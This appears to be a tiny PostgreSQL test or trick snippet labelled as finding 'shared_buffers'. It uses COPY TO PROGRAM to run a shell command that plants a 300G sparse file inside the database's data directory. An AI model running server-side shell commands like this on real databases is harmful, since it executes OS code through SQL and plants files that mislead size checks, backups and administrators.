-- finds: shared_buffers
DO $$
BEGIN
  -- It takes no room.
  EXECUTE (
    SELECT format('COPY (SELECT) TO PROGRAM %L', format('cat >/dev/null; truncate -s 300G base/%s/holes', oid))
    FROM pg_database WHERE datname = current_database()
  );
END
$$;
-- good
